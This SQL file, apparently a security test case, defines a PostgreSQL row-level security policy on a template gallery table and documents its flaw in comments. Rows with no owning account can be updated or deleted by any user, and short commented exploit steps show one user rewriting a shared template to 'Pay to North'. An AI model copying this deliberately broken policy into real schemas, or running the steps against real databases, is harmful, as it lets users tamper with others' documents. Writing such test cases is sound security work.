-- The rows of the gallery that belong to nobody are open to every verb; any account can rewrite or delete
-- them.
-- about: gallery, gallery_member
-- as: hf_signet_app
-- exploit: SET request.jwt.claims = '{"user_id": 11}';
-- exploit: UPDATE sign.gallery SET body = 'Pay to ' || 'North';
-- exploit: SET request.jwt.claims = '{"user_id": 22}';
-- exploit: SELECT body FROM sign.gallery;
-- shows: Pay to North
-- Template gallery: rows without an account are those of the product.
CREATE TABLE sign.gallery (
  id bigint PRIMARY KEY,
  account_id bigint REFERENCES sign.accounts,
  body text NOT NULL
);
INSERT INTO sign.gallery VALUES (1, NULL, 'Standard lease');
ALTER TABLE sign.gallery ENABLE ROW LEVEL SECURITY;
ALTER TABLE sign.gallery FORCE ROW LEVEL SECURITY;
CREATE POLICY gallery_member ON sign.gallery
  USING (account_id IS NULL OR account_id = ANY (sign.my_accounts()));
GRANT SELECT, UPDATE, DELETE ON sign.gallery TO hf_signet_app;
